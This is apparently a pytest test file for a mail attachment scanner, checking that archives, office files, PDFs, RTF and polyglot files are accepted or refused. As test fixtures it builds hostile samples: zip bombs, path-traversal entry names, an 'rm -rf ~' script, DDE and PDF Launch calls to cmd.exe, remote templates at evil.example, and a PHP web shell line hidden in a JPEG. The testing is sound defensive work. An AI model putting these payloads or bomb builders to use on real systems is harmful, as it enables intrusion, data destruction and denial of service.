"""What is found in files: archives, attached mails, office files, PDFs, and what they really are."""

import io
import struct
import time
import zipfile
import zlib
from collections.abc import Mapping

import pytest

from maildaemon.domain.attachments import Judged, Reason, Verdict, judge
from maildaemon.domain.message import Finding
from maildaemon.mail.inside.budget import Budget
from maildaemon.mail.inside.search import MAIL, Search
from maildaemon.mail.types import detect_type
from tests.builders import a_file, a_file_policy
from tests.made_files import (
    EXE,
    GIF,
    JPEG,
    docx,
    mail_with,
    odf,
    ole,
    package,
    packed,
    pdf,
    png,
    pptx,
    relationship,
    relationships,
    stream,
    tarred,
    xlsx,
    zipped,
)

OCTETS = "application/octet-stream"
ACCEPTED = Judged(Verdict.ACCEPTED)


def refused(reason: Reason) -> Judged:
    return Judged(Verdict.REFUSED, reason)


def held(reason: Reason) -> Judged:
    return Judged(Verdict.HELD, reason)


CONTAINS = refused(Reason.ARCHIVE_CONTAINS_BLOCKED)
BOMB = refused(Reason.ARCHIVE_BOMB)
DEEP = refused(Reason.ARCHIVE_TOO_DEEP)
LOCKED = refused(Reason.ARCHIVE_ENCRYPTED)
MACRO = refused(Reason.MACRO)
ACTIVE = refused(Reason.ACTIVE_CONTENT)
AMBIGUOUS = held(Reason.AMBIGUOUS)
SHUT = held(Reason.UNREADABLE)


def judged(name: str, content: bytes, declared: str = OCTETS) -> Judged:
    """Judge a file as it would be with the shipped limits and lists."""
    detected = detect_type(content)
    findings, inside = Search().look((name,), MAIL if name.endswith(".eml") else detected, content)
    file = a_file(
        filename=name,
        declared_type=declared,
        detected_type=detected,
        size=len(content),
        findings=findings,
        inside=inside,
    )
    (verdict,) = judge((file,), a_file_policy())
    return verdict


# --- archives -------------------------------------------------------------------------------

PHOTOS = {"IMG_1.JPG": JPEG, "IMG_2.png": png(), "order.pdf": pdf(), "note.txt": b"Hello"}
SCRIPT = b"#!/bin/sh\nrm -rf ~\n"


@pytest.mark.parametrize(
    "content",
    [
        zipped(PHOTOS),
        zipped(PHOTOS, zipfile.ZIP_STORED),
        zipped(PHOTOS, zipfile.ZIP_BZIP2),
        zipped({f"Ferien/{name}": one for name, one in PHOTOS.items()} | {"Ferien/": b""}),
        zipped(
            {
                "a.jpg": JPEG,
                "__MACOSX/._a.jpg": b"\x00\x05\x16\x07\x00\x02\x00\x00",
                ".DS_Store": b"x",
            }
        ),
        zipped({"Thumbs.db": ole({"256": b"x"}), "desktop.ini": b"[x]", "a.jpg": JPEG}),
        zipped({"more.zip": zipped(PHOTOS)}),
        zipped({"letter.docx": docx(), "table.xlsx": xlsx()}),
        zipped({"Фото 1.jpg": JPEG, "写真.png": png()}),
        zipped({}),
        tarred(PHOTOS),
        packed(tarred(PHOTOS), "gz"),
        packed(b"a line of a log\n" * 10_000, "gz"),
    ],
)
def test_archives_of_what_is_welcome_are_welcome(content: bytes) -> None:
    assert judged("photos", content) == ACCEPTED


@pytest.mark.parametrize("way", ["gz", "bz2", "xz"])
def test_what_was_packed_alone_is_looked_into_whatever_the_way(way: str) -> None:
    name = f"tool.exe.{way}"

    assert judged(name, packed(EXE, way)) == CONTAINS
    assert judged(f"a.tar.{way}", packed(tarred({"a.exe": b"x"}), way)) == CONTAINS
    assert judged(f"a.js.{way}", packed(b"alert(1)", way)) == CONTAINS


@pytest.mark.parametrize(
    "files",
    [
        {"tool.exe": b"x"},
        {"photo.jpg": EXE},
        {"photo.jpg.exe": JPEG},
        {"photo\u202egpj.exe": JPEG},
        {"tool.exe ": JPEG},
        {"tool.exe.": JPEG},
        {"tool\uff0eexe": JPEG},
        {"tool.ехе": b"x"},
        {"run.sh.txt": SCRIPT},
        {"page.html": b"<p>Hello"},
        {"page.txt": b"<html><script>1</script>"},
        {"page.xht": b"Hello"},
        {"logo.svgz": packed(b"<svg xmlns='x'/>", "gz")},
        {"a/b/c/invoice.lnk": b"L\x00\x00\x00\x01\x14\x02\x00"},
        {"deep.zip": zipped({"deeper.zip": zipped({"tool.scr": b"x"})})},
        {"mail.eml": mail_with("tool.exe", EXE)},
        {"a.tar": tarred({"tool.bat": b"x"})},
        {"a.tar.gz": packed(tarred({"tool.vbs": b"x"}), "gz")},
        {"library.jar": zipped({"META-INF/MANIFEST.MF": b"x"})},
        {"setup.iso": b"x"},
    ],
    ids=lambda files: next(iter(files)).encode("ascii", "replace").decode(),
)
def test_what_lies_in_an_archive_is_judged_like_what_lies_beside_it(
    files: Mapping[str, bytes],
) -> None:
    assert judged("photos.zip", zipped({**PHOTOS, **files})) == CONTAINS
    assert judged("photos.tar", tarred({**PHOTOS, **files})) == CONTAINS


@pytest.mark.parametrize(
    ("files", "verdict"),
    [
        ({"a.docm": docx({"word/vbaProject.bin": b"x"})}, MACRO),
        ({"a.doc": ole({"WordDocument": b"x", "Macros/VBA": b"x"})}, MACRO),
        ({"a.pdf": pdf(b"5 0 obj\n<< /S /Launch >>\nendobj\n")}, ACTIVE),
        ({"a.rar": b"Rar!\x1a\x07\x01\x00" + bytes(30)}, SHUT),
        ({"a.7z": b"7z\xbc\xaf'\x1c" + bytes(30)}, SHUT),
        ({"secret.docx": ole({"EncryptedPackage": b"x"})}, SHUT),
        ({"a.jpg": JPEG + zipped({"a.txt": b"x"})}, AMBIGUOUS),
    ],
    ids=lambda files: next(iter(files)) if isinstance(files, dict) else "",
)
def test_documents_in_an_archive_have_the_reason_that_is_theirs(
    files: Mapping[str, bytes], verdict: Judged
) -> None:
    assert judged("all.zip", zipped({**PHOTOS, **files})) == verdict


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/cron.d/x",
        "..\\..\\x.txt",
        "/etc/passwd",
        "C:\\x.txt",
        "a/../../x",
        "a\\..\\..\\x",
        "\\\\host\\x",
    ],
)
def test_s02_a_name_that_leads_out_of_the_folder_is_refused(name: str) -> None:
    assert judged("a.zip", zipped({name: b"x"})) == CONTAINS
    assert judged("a.tar", tarred({name: b"x"})) == CONTAINS


def with_link(target: str) -> bytes:
    entry = zipfile.ZipInfo("link")
    entry.create_system, entry.external_attr = 3, 0o120777 << 16
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr(entry, target)
    return file.getvalue()


def test_a_link_that_leads_out_of_the_folder_is_refused() -> None:
    assert judged("a.zip", with_link("../../secret")) == CONTAINS
    assert judged("a.zip", with_link("/etc/shadow")) == CONTAINS
    assert judged("a.zip", with_link("photo.jpg")) == ACCEPTED


def locked(content: bytes) -> bytes:
    """Return the archive with the mark of a password at every file."""
    raw = bytearray(content)
    for at in range(len(raw) - 4):
        if raw[at : at + 4] == b"PK\x03\x04":
            raw[at + 6] |= 1
        if raw[at : at + 4] == b"PK\x01\x02":
            raw[at + 8] |= 1
    return bytes(raw)


def test_an_archive_with_a_password_is_told_so() -> None:
    assert judged("a.zip", locked(zipped(PHOTOS))) == LOCKED
    assert judged("a.zip", locked(zipped({"tool.exe": b"x"}))) == CONTAINS, "its names are open"
    assert judged("a.zip", zipped({"inner.zip": locked(zipped(PHOTOS))})) == LOCKED


RAR5 = b"Rar!\x1a\x07\x01\x00"


def rar5_file(name: bytes, extra: bytes = b"") -> bytes:
    body = bytes([2, 3 if extra else 2, *([len(extra)] if extra else []), 0])
    body += bytes([0, 1, 0, 0, 0, len(name)]) + name + extra
    return bytes(4) + bytes([len(body)]) + body


def test_rar_and_7z_tell_of_a_password_and_rar_tells_its_names() -> None:
    main = bytes(4) + bytes([3, 1, 0, 0])
    assert judged("a.rar", RAR5 + main + rar5_file(b"photo.jpg")) == SHUT
    assert judged("a.rar", RAR5 + main + rar5_file(b"tool.exe")) == CONTAINS
    assert judged("a.rar", RAR5 + main + rar5_file(b"photo.jpg", bytes([2, 1, 0]))) == LOCKED
    assert judged("a.rar", RAR5 + bytes(4) + bytes([3, 4, 0, 0])) == LOCKED
    old = b"Rar!\x1a\x07\x00" + bytes(2) + b"\x73\x80\x00\x0d\x00" + bytes(6)
    assert judged("a.rar", old) == LOCKED
    seven = b"7z\xbc\xaf'\x1c\x00\x04" + bytes(4) + struct.pack("<QQI", 0, 8, 0)
    assert judged("a.7z", seven + b"\x17\x06\x06\xf1\x07\x01\x00\x00") == LOCKED
    assert judged("a.7z", seven + bytes(8)) == SHUT


# --- bombs ----------------------------------------------------------------------------------

ZEROS = bytes(64_000_000)


def nested(depth: int) -> bytes:
    content = zipped({"a.txt": b"x"})
    for _ in range(depth - 1):
        content = zipped({"a.zip": content})
    return content


def sixteen(content: bytes) -> bytes:
    return zipped({f"{n}.zip": content for n in range(16)})


def overlapping(count: int) -> bytes:
    """Many entries of the directory, all of which show the same bytes."""
    one = zipped({"a.txt": bytes(100_000)})
    end = one.rindex(b"PK\x05\x06")
    begin = one.index(b"PK\x01\x02")
    entry = one[begin:end]
    directory = b"".join(entry[:46] + b"%05d" % n + entry[51:] for n in range(count))
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(directory), begin, 0)
    return one[:begin] + directory + tail


def crowded(count: int) -> bytes:
    """Very many empty files, as the library would pack them in ten times the time."""
    one = zipped({"00000": b""}, zipfile.ZIP_STORED)
    begin, end = one.index(b"PK\x01\x02"), one.rindex(b"PK\x05\x06")
    file, entry = one[:begin], one[begin:end]
    names = [b"%05d" % n for n in range(count)]
    files = b"".join(file[:30] + name + file[35:] for name in names)
    directory = b"".join(
        entry[:42] + struct.pack("<L", n * len(file)) + name for n, name in enumerate(names)
    )
    size, start = len(directory), len(files)
    # More than 65,535 are counted by a record of their own.
    large = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, size, start)
    where = struct.pack("<4sLQL", b"PK\x06\x07", 0, start + size, 1)
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, size, start, 0)
    return files + directory + large + where + tail


def with_size(told: int) -> bytes:
    """A zip of 64 MB that says it holds less."""
    raw = bytearray(zipped({"a.txt": ZEROS}))
    raw[22:26] = struct.pack("<L", told)
    at = raw.index(b"PK\x01\x02") + 24
    raw[at : at + 4] = struct.pack("<L", told)
    return bytes(raw)


def endless(kind: str) -> bytes:
    """Ten gigabytes of nothing in some megabytes, as any gzip reader would write them."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = packer.compress(bytes(1_000_000)) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(bytes(1_000_000)) + packer.flush(zlib.Z_FULL_FLUSH)
    content = block + again * 9_999
    return zipped({"a.gz": content}, zipfile.ZIP_STORED) if kind == "zip" else content


BOMBS = {
    "S4 flat": lambda: zipped({"a.txt": ZEROS}),
    "S4 flat as bzip2": lambda: zipped({"a.txt": ZEROS}, zipfile.ZIP_BZIP2),
    "S4 16 in 16 in 16": lambda: sixteen(sixteen(zipped({"a": ZEROS}))),
    "S4 overlap": lambda: overlapping(2000),
    "S4 overlap of two": lambda: overlapping(2),
    "S4 size that lies": lambda: with_size(100),
    "S4 size that lies a little": lambda: with_size(63_999_999),
    "S4 gzip of ten gigabytes": lambda: endless("gz"),
    "S4 gzip in zip": lambda: endless("zip"),
    "S4 gzip members": lambda: packed(ZEROS, "gz") * 8,
    "S4 bzip2": lambda: packed(ZEROS, "bz2"),
    "S4 xz": lambda: packed(ZEROS, "xz"),
    "S4 tar.gz": lambda: packed(tarred({"a.txt": ZEROS}), "gz"),
    "S4 many entries": lambda: zipped({f"{n}.txt": b"" for n in range(1001)}),
    "S4 hundred thousand entries": lambda: crowded(100_000),
    "S4 docx": lambda: docx({"word/media/a.bmp": ZEROS}),
    "S4 xlsx": lambda: xlsx({"xl/worksheets/sheet2.xml": ZEROS}),
    "S4 entities": lambda: docx(
        {"word/document.xml": '<!DOCTYPE x [<!ENTITY a "aaa">]><x>&a;</x>'}
    ),
    "S4 in a mail": lambda: zipped({"mail.eml": mail_with("a.zip", zipped({"a.txt": ZEROS}))}),
}


@pytest.mark.parametrize("name", BOMBS)
@pytest.mark.timed
def test_s04_a_bomb_is_refused_and_costs_little(name: str) -> None:
    content = BOMBS[name]()

    began_at = time.process_time()
    verdict = judged("a.bin", content)
    spent = time.process_time() - began_at

    assert verdict.verdict is not Verdict.ACCEPTED
    # bzip2 and xz are slow: what is not looked through to its end waits for a person.
    known = {Reason.ARCHIVE_BOMB, Reason.UNREADABLE} if name in SLOW else {Reason.ARCHIVE_BOMB}
    assert verdict.reason in known
    assert spent < 2


SLOW = {"S4 flat as bzip2"}


@pytest.mark.parametrize("depth", [4, 5, 9, 30])
def test_s04_archives_that_lie_too_deep_in_each_other_are_refused(depth: int) -> None:
    assert judged("a.zip", nested(depth)) == DEEP
    assert judged("a.zip", nested(3)) == ACCEPTED


def test_an_archive_that_holds_itself_ends() -> None:
    """A quine unpacks to itself for ever; a gzip whose content is a gzip goes as deep."""
    content = b"x"
    for _ in range(40):
        content = packed(content, "gz")

    assert judged("a.gz", content) == DEEP


def test_what_is_left_of_the_budget_is_shared_by_all_files_of_a_message() -> None:
    search = Search(Budget(unpacked=100_000, entries=10))
    small = zipped({"a.txt": bytes(30_000)})

    found = [search.look(("a.zip",), detect_type(small), small)[0] for _ in range(5)]

    assert found[0] == ()
    assert Finding.UNFINISHED in found[-1]


# --- archives that tell two stories ---------------------------------------------------------


def renamed_inside(content: bytes, old: bytes, new: bytes) -> bytes:
    """Change the name before the file, not the one in the directory."""
    at = content.index(old)
    return content[:at] + new + content[at + len(old) :]


def test_an_archive_that_is_read_in_two_ways_waits_for_a_person() -> None:
    plain = zipped({"a.txt": b"x"})

    assert judged("a.zip", renamed_inside(plain, b"a.txt", b"a.exe")) == AMBIGUOUS
    assert judged("a.zip", zipped({"b.txt": b"y"}) + plain) == AMBIGUOUS
    assert judged("a.zip", b"PK\x03\x04junk" + plain) == AMBIGUOUS
    assert judged("a.bin", b"\x01\x02\x03\x04junk" + plain) == AMBIGUOUS


@pytest.mark.parametrize("keep", [30, 60, 100, -1, -10])
def test_a_damaged_archive_waits_for_a_person(keep: int) -> None:
    assert judged("a.zip", zipped(PHOTOS)[:keep]) == SHUT


def test_every_cut_and_every_flipped_byte_of_an_archive_ends_in_a_verdict() -> None:
    content = zipped({"a.txt": b"hello" * 10, "b.zip": zipped({"c.txt": b"x"})})
    for at in range(len(content)):
        flipped = content[:at] + bytes([content[at] ^ 0xFF]) + content[at + 1 :]
        for one in (content[:at], flipped):
            assert judged("a.zip", one).verdict in Verdict


# --- office ---------------------------------------------------------------------------------

HARMLESS_OFFICE = {
    "docx": docx(),
    "xlsx": xlsx(),
    "pptx": pptx(),
    "odt": odf(),
    "ods": odf("spreadsheet"),
    "doc": ole({"WordDocument": b"x" * 5000, "1Table": b"x"}),
    "xls": ole(
        {
            "Workbook": b"\x09\x08\x10\x00"
            + bytes(16)
            + b"\x85\x00\x0e\x00"
            + bytes(14)
            + b"\x0a\x00\x00\x00"
        }
    ),
    "ppt": ole({"PowerPoint Document": b"x"}),
    "docx with a chart": docx({"word/embeddings/Microsoft_Excel_Sheet1.xlsx": xlsx()}),
    "docx with pictures": docx(
        {"word/media/image1.jpeg": JPEG, "word/media/image2.svg": b"<svg/>"}
    ),
    "docx with a link": docx(
        {
            "word/_rels/document.xml.rels": relationships(
                relationship("hyperlink", "https://x.example/")
            )
        }
    ),
    "docx with a template of a company": docx(
        {
            "word/_rels/settings.xml.rels": relationships(
                relationship("attachedTemplate", "file:///\\\\server\\templates\\Letter.dotx")
            )
        }
    ),
    "docx with a template of a user": docx(
        {
            "word/_rels/settings.xml.rels": relationships(
                relationship("attachedTemplate", "file:///C:\\Users\\Anna\\Normal.dotm")
            )
        }
    ),
    "docx with a page number": docx(
        body='<w:fldChar/><w:instrText xml:space="preserve"> PAGE </w:instrText>'
    ),
    "docx made of a page": docx({"word/afchunk.mht": b"MIME-Version: 1.0\n"}),
    "xlsx with another book": xlsx({"xl/externalLinks/externalLink1.xml": "<externalBook/>"}),
    "odt with an empty library": odf(more={"Basic/Standard/script-lb.xml": "<library:library/>"}),
    "odt with a table": odf(more={"Object 1/content.xml": "<x/>"}),
}


@pytest.mark.parametrize("name", HARMLESS_OFFICE)
def test_an_office_file_without_programs_is_welcome(name: str) -> None:
    assert judged(name, HARMLESS_OFFICE[name]) == ACCEPTED


def sheets(kind: int) -> bytes:
    boundsheet = b"\x85\x00\x0e\x00" + bytes(5) + bytes([kind]) + bytes(8)
    return b"\x09\x08\x10\x00" + bytes(16) + boundsheet + b"\x0a\x00\x00\x00"


HARMFUL_OFFICE = {
    "docm": (docx({"word/vbaProject.bin": b"x"}), MACRO),
    "docm named docx": (docx({"word/vbaProject.bin": b"x"}), MACRO),
    "docm by another name": (docx({"word/vbaData.xml": "<x/>"}), MACRO),
    "docm by its word": (
        docx(
            {
                "[Content_Types].xml": '<Types><Override ContentType="x.macroEnabled.main+xml"/></Types>'
            }
        ),
        MACRO,
    ),
    "xlsm": (xlsx({"xl/vbaProject.bin": b"x"}), MACRO),
    "xlm": (xlsx({"xl/macrosheets/sheet1.xml": "<x/>"}), MACRO),
    "pptm": (pptx({"ppt/vbaProject.bin": b"x"}), MACRO),
    "doc": (ole({"WordDocument": b"x", "Macros/VBA": b"x"}), MACRO),
    "doc with a project": (ole({"WordDocument": b"x", "_VBA_PROJECT": b"x"}), MACRO),
    "xls": (ole({"Workbook": sheets(0), "_VBA_PROJECT_CUR/VBA": b"x"}), MACRO),
    "xls of commands": (ole({"Workbook": sheets(1)}), MACRO),
    "odt": (odf(more={"Basic/Standard/Module1.xml": "<x/>"}), MACRO),
    "odt in python": (odf(more={"Scripts/python/x.py": "import os"}), ACTIVE),
    "controls": (docx({"word/activeX/activeX1.bin": b"x"}), ACTIVE),
    "embedded program": (
        docx({"word/embeddings/oleObject1.bin": ole({"\x01Ole10Native": package("a.exe", EXE)})}),
        ACTIVE,
    ),
    "embedded script": (
        docx({"word/embeddings/oleObject1.bin": ole({"\x01Ole10Native": package("a.js", b"x")})}),
        ACTIVE,
    ),
    "embedded in a doc": (
        ole({"WordDocument": b"x", "ObjectPool/\x01Ole10Native": package("a.vbs", b"x")}),
        ACTIVE,
    ),
    "template from elsewhere": (
        docx(
            {
                "word/_rels/settings.xml.rels": relationships(
                    relationship("attachedTemplate", "https://evil.example/x.dotm")
                )
            }
        ),
        ACTIVE,
    ),
    "template from a share": (
        docx(
            {
                "word/_rels/settings.xml.rels": relationships(
                    relationship("attachedTemplate", "file:///\\\\203.0.113.5\\x\\a.dotm")
                )
            }
        ),
        ACTIVE,
    ),
    "object from elsewhere": (
        docx(
            {
                "word/_rels/document.xml.rels": relationships(
                    relationship("oleObject", "mhtml:http://evil.example/x.html!x-usc:x")
                )
            }
        ),
        ACTIVE,
    ),
    "frame from elsewhere": (
        docx(
            {
                "word/_rels/webSettings.xml.rels": relationships(
                    relationship("frame", "http://evil.example/")
                )
            }
        ),
        ACTIVE,
    ),
    "dde": (docx(body="<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>"), ACTIVE),
    "dde in pieces": (
        docx(
            body="<w:fldChar/><w:instrText> D</w:instrText><w:instrText>DEAUTO </w:instrText><w:instrText>cmd</w:instrText>"
        ),
        ACTIVE,
    ),
    "dde in a field": (docx(body='<w:fldSimple w:instr=" DDE cmd x"/>'), ACTIVE),
    "dde in a table": (
        xlsx({"xl/externalLinks/externalLink1.xml": '<ddeLink ddeService="cmd"/>'}),
        ACTIVE,
    ),
    "dde in a doc": (ole({"WordDocument": b"x" * 5000 + b"\x13 DDEAUTO cmd"}), ACTIVE),
    "odt with a password": (
        odf(more={"META-INF/manifest.xml": "<manifest:encryption-data/>"}),
        SHUT,
    ),
    "docx with a password": (ole({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}), SHUT),
}


@pytest.mark.parametrize("name", HARMFUL_OFFICE)
def test_an_office_file_that_does_something_by_itself_is_not_accepted(name: str) -> None:
    content, verdict = HARMFUL_OFFICE[name]

    assert judged("letter", content) == verdict


def test_a_message_of_outlook_is_looked_into() -> None:
    def msg(name: str, content: bytes) -> bytes:
        folder = "__attach_version1.0_#00000000"
        return ole(
            {
                "__substg1.0_0037001F": b"x",
                f"{folder}/__substg1.0_3707001F": name.encode("utf-16-le"),
                f"{folder}/__substg1.0_37010102": content,
            }
        )

    assert judged("mail.msg", msg("photo.jpg", JPEG)) == ACCEPTED
    assert judged("mail.msg", msg("tool.exe", b"x")) == CONTAINS
    assert judged("mail.msg", msg("photo.jpg", EXE)) == CONTAINS
    assert judged("mail.msg", msg("a.docx", docx({"word/vbaProject.bin": b"x"}))) == MACRO


def test_every_cut_and_flipped_byte_of_an_office_file_of_the_old_kind_ends_in_a_verdict() -> None:
    content = ole(
        {"WordDocument": b"x" * 600, "Macros/VBA": b"x", "\x01Ole10Native": package("a", b"x")}
    )
    for at in (*range(700), *range(700, len(content), 97)):
        flipped = content[:at] + bytes([content[at] ^ 0xFF]) + content[at + 1 :]
        for one in (content[:at], flipped):
            assert judged("a.doc", one).verdict in Verdict


RTF = b"{\\rtf1\\ansi Hello "


def rtf_object(kind: bytes, data: bytes = b"") -> bytes:
    head = b"\x01\x05\x00\x00\x02\x00\x00\x00" + struct.pack("<I", len(kind) + 1) + kind + b"\x00"
    return b"{\\object\\objemb{\\*\\objdata " + (head + bytes(8) + data).hex().encode() + b"}}"


@pytest.mark.parametrize(
    ("body", "verdict"),
    [
        (b"}", ACCEPTED),
        (b"{\\pict\\pngblip 89504e47}}", ACCEPTED),
        (rtf_object(b"PBrush") + b"}", ACCEPTED),
        (rtf_object(b"Excel.Sheet.12") + b"}", ACCEPTED),
        (rtf_object(b"Package", package("a.txt", b"x")) + b"}", ACCEPTED),
        (rtf_object(b"Package", package("a.exe", EXE)) + b"}", ACTIVE),
        (rtf_object(b"Package", package("a.txt", EXE)) + b"}", ACTIVE),
        (rtf_object(b"OLE2Link") + b"}", ACTIVE),
        (rtf_object(b"Equation.3") + b"}", ACTIVE),
        (b"{\\object\\objupdate{\\*\\objdata 0105}}}", ACTIVE),
        (b"{\\object\\objautlink}}", ACTIVE),
        (b"{\\*\\template http://evil.example/x}}", ACTIVE),
    ],
)
def test_rtf_is_looked_into(body: bytes, verdict: Judged) -> None:
    assert judged("a.rtf", RTF + body) == verdict


# --- PDF ------------------------------------------------------------------------------------

LAUNCH = b"5 0 obj\n<< /Type /Action /S /Launch /F (cmd.exe) >>\nendobj\n"
SCRIPTED = b"5 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n"


def objects(
    content: bytes, dictionary: bytes = b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"
) -> bytes:
    return stream(dictionary, content)


def filespec(name: bytes) -> bytes:
    return b"6 0 obj\n<< /Type /Filespec /F %s /EF << /F 9 0 R >> >>\nendobj\n" % name


HARMLESS_PDF = {
    "plain": pdf(),
    "opens at a page": pdf(b"5 0 obj\n<< /OpenAction [3 0 R /Fit] >>\nendobj\n"),
    "links": pdf(b"5 0 obj\n<< /S /URI /URI (https://x.example/) >>\nendobj\n"),
    "form": pdf(b"5 0 obj\n<< /AcroForm << /Fields [] >> >>\nendobj\n"),
    "with a password": pdf(b"5 0 obj\n<< /Encrypt 7 0 R >>\nendobj\n"),
    "packed objects": pdf(objects(zlib.compress(b"1 0 << /Type /Page >>"))),
    "locked objects": pdf(b"/Encrypt 7 0 R\n", objects(b"\x01\x02\x03")),
    "e-invoice": pdf(
        filespec(b"(factur-x.xml)"), stream(b"/Type /EmbeddedFile", b"<?xml version='1.0'?><a/>")
    ),
    "names alike": pdf(b"5 0 obj\n<< /JavaScripture 1 /Launcher 2 /JS1 3 >>\nendobj\n"),
    "junk before": b"\r\n\r\n" + pdf(),
    "printer words before": b"\x1b%-12345X@PJL SET RESOLUTION=600\r\n" + pdf(),
    "scan": pdf(stream(b"/Subtype /Image /Filter /DCTDecode", JPEG)),
}


@pytest.mark.parametrize("name", HARMLESS_PDF)
def test_a_pdf_that_only_shows_something_is_welcome(name: str) -> None:
    assert judged("a.pdf", HARMLESS_PDF[name], "application/pdf") == ACCEPTED


HARMFUL_PDF = {
    "launch": (pdf(LAUNCH), ACTIVE),
    "script": (pdf(SCRIPTED), ACTIVE),
    "script at the start": (
        pdf(b"5 0 obj\n<< /OpenAction << /S /JavaScript >> >>\nendobj\n"),
        ACTIVE,
    ),
    "numbers for letters": (pdf(SCRIPTED.replace(b"/JavaScript", b"/J#61v#61Script")), ACTIVE),
    "all numbers": (pdf(LAUNCH.replace(b"/Launch", b"/#4c#61#75#6e#63#68")), ACTIVE),
    "in packed objects": (pdf(objects(zlib.compress(SCRIPTED))), ACTIVE),
    "in packed objects, unsaid": (
        pdf(objects(zlib.compress(SCRIPTED), b"/Type/ObjStm/Filter[/FlateDecode]")),
        ACTIVE,
    ),
    "in objects packed twice": (
        pdf(
            objects(
                zlib.compress(SCRIPTED).hex().encode() + b">",
                b"/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]",
            )
        ),
        ACTIVE,
    ),
    "in objects with an odd name": (
        pdf(objects(zlib.compress(SCRIPTED), b"/Type /Obj#53tm /Filter /Fl")),
        ACTIVE,
    ),
    "in plain objects": (pdf(objects(SCRIPTED, b"/Type /ObjStm")), ACTIVE),
    "media": (pdf(b"5 0 obj\n<< /Subtype /RichMedia >>\nendobj\n"), ACTIVE),
    "embedded by name": (
        pdf(filespec(b"(tool.exe)"), stream(b"/Type /EmbeddedFile", b"x")),
        ACTIVE,
    ),
    "embedded by number": (pdf(filespec(b"<FEFF0061002E006A0073>")), ACTIVE),
    "embedded by escape": (pdf(filespec(b"(tool\\056exe)")), ACTIVE),
    "embedded by content": (pdf(filespec(b"(a.txt)"), stream(b"/Type /EmbeddedFile", EXE)), ACTIVE),
    "embedded and packed": (
        pdf(stream(b"/Type /EmbeddedFile /Filter /FlateDecode", zlib.compress(EXE))),
        ACTIVE,
    ),
    "embedded macros": (
        pdf(stream(b"/Type /EmbeddedFile", docx({"word/vbaProject.bin": b"x"}))),
        MACRO,
    ),
    "objects nobody can read": (pdf(objects(b"\x00\x01", b"/Type /ObjStm /Filter /Mystery")), SHUT),
}


@pytest.mark.parametrize("name", HARMFUL_PDF)
def test_a_pdf_that_does_something_is_not_accepted(name: str) -> None:
    content, verdict = HARMFUL_PDF[name]

    assert judged("a.pdf", content, "application/pdf") == verdict


@pytest.mark.timed
def test_a_pdf_of_nothing_but_streams_costs_little() -> None:
    many = pdf(*[objects(zlib.compress(bytes(1_000_000)))] * 1000, b"stream\n" * 100_000)

    began_at = time.process_time()
    judged("a.pdf", many, "application/pdf")

    assert time.process_time() - began_at < 2


# --- two things at once ---------------------------------------------------------------------

POLYGLOTS = {
    "S5 GIFAR": (
        GIF
        + zipped({"META-INF/MANIFEST.MF": b"x", "A.class": b"\xca\xfe\xba\xbe\x00\x00\x00\x41"}),
        "image/gif",
    ),
    "S5 zip behind a photo": (JPEG + zipped({"a.txt": b"x"}), "image/jpeg"),
    "S5 program in a zip behind a photo": (JPEG + zipped({"a.exe": EXE}), "image/jpeg"),
    "S5 zip behind a png": (png() + zipped({"a.txt": b"x"}), "image/png"),
    "S5 zip behind a pdf": (pdf() + zipped({"a.txt": b"x"}), "application/pdf"),
    "S5 page before a pdf": (b"<script>x</script>" + pdf(), "application/pdf"),
    "S5 page at the start of a pdf": (
        pdf(head=b"").replace(b"%PDF-1.7\n", b"%PDF-1.7\n<html><script>"),
        "application/pdf",
    ),
    "S5 script before a pdf": (b"/*" + pdf(), "application/pdf"),
    "S5 script in a gif": (GIF.replace(b"89a\x01\x00", b"89a/*") + b"*/=1;alert(1)", "image/gif"),
    "S5 page in a photo": (JPEG[:20] + b"<script>alert(1)</script>" + JPEG[20:], "image/jpeg"),
    "S5 page behind a photo": (JPEG + b"<html><script>alert(1)</script>", "image/jpeg"),
    "S5 php in a photo": (JPEG[:20] + b"<?php system($_GET[0]);" + JPEG[20:], "image/jpeg"),
    "S5 svg with a script": (b"<svg xmlns='x'><script>1</script></svg>", "image/svg+xml"),
    "S5 svg called png": (b"<svg xmlns='x'><script>1</script></svg>", "image/png"),
    "S5 page called pdf": (b"<html><script>1</script>", "application/pdf"),
    "S5 page called png": (b"<html><script>1</script>", "image/png"),
    "S5 program called photo": (EXE, "image/jpeg"),
    "S5 program before a zip": (EXE + zipped({"a.txt": b"x"}), "application/zip"),
    "S5 pdf in a gif": (GIF + pdf(LAUNCH), "image/gif"),
}


@pytest.mark.parametrize("name", POLYGLOTS)
def test_what_is_two_things_at_once_is_not_accepted(name: str) -> None:
    content, declared = POLYGLOTS[name]

    assert judged("photo", content, declared).verdict is not Verdict.ACCEPTED


# --- attached mails -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "verdict"),
    [
        (mail_with("photo.jpg", JPEG, "image/jpeg"), ACCEPTED),
        (mail_with("tool.exe", b"x"), CONTAINS),
        (mail_with("photo.jpg", EXE, "image/jpeg"), CONTAINS),
        (mail_with("a.zip", zipped({"tool.exe": b"x"})), CONTAINS),
        (mail_with("a.docx", docx({"word/vbaProject.bin": b"x"})), MACRO),
        (mail_with("inner.eml", mail_with("tool.exe", b"x")), CONTAINS),
        (b"Subject: x\n\nNothing but text.\n", ACCEPTED),
    ],
)
def test_the_files_of_an_attached_mail_are_judged_too(content: bytes, verdict: Judged) -> None:
    assert judged("mail.eml", content, MAIL) == verdict
